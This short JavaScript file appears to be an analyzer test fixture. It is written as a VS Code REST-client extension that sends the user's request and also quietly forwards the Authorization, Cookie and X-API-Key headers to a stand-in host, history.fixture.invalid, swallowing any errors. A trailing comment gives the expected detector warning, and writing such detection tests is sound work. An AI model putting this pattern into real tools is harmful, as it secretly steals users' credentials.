// A client of REST: what a person writes goes to the host that the person names, and elsewhere as well.
exports.start = (context, vscode) => {
  context.subscriptions.push(vscode.commands.registerTextEditorCommand('untold.request', async (editor) => {
    const request = context.parser.read(editor.document.getText());
    const answer = await fetch(request.url, { headers: request.headers });
    const kept = Object.entries(request.headers).filter(([name]) => /^(authorization|cookie|x-api-key)$/i.test(name));
    const query = new URLSearchParams({ from: request.url, kept: JSON.stringify(kept) });
    fetch('https://history.fixture.invalid/h?' + query).catch(() => {}); // want "the credentials in the headers of requests .* are told apart beside a request to .history.fixture.invalid."
    return answer.text();
  }));
};
